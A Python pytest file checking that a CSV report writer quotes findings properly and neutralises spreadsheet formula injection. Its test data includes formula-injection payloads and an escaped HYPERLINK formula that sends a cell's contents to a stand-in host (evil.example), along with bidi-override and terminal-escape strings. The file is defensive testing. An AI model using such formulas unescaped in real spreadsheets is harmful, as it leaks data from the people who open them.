"""CSV: one row per finding, quoted properly, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from enforcer.reports.csv_report import COLUMNS, MAX_CELL, CsvReporter, safe_cell


def _rows(result) -> list[dict[str, str]]:
    text = CsvReporter().render(result)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_one_row_per_finding_with_documented_columns(ordinary) -> None:
    text = CsvReporter().render(ordinary)
    assert text[1:].split("\r\n", 1)[0] == ",".join(COLUMNS)
    rows = _rows(ordinary)
    assert len(rows) == len(ordinary.findings)
    assert rows[0]["rule"] == "domain-lockout"


@pytest.mark.parametrize(
    "payload", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", " \t@x", "\uff1d1+1", "\n=1"]
)
def test_formula_starters_are_neutralised(payload: str) -> None:
    assert safe_cell(payload).startswith("'")


@pytest.mark.parametrize("payload", ["alice", "Zoë", "1-2", "a=b", ""])
def test_ordinary_values_untouched(payload: str) -> None:
    assert safe_cell(payload) == payload


def test_hostile_cells_are_safe_and_round_trip(hostile) -> None:
    rows = _rows(hostile)
    assert len(rows) == len(hostile.findings)
    for row in rows:
        for value in row.values():
            if value.lstrip(" \t\r\n\u00a0")[:1] in ("=", "+", "-", "@"):
                pytest.fail(f"formula not neutralised: {value[:40]!r}")
    names = {r["subject_name"] for r in rows}
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in names
    assert "Zoë Ødegård-Łukasiewicz 山田 🙂" in names
    assert "gpj.\\u202eexe" in names  # the bidi override is shown, not obeyed
    assert any("esc\\x1b[31mred" in n for n in names)


def test_very_long_values_are_capped_for_excel() -> None:
    cell = safe_cell("y" * 40_000)
    assert len(cell) < 32_767 and cell.endswith("[truncated]") and len(cell) > MAX_CELL
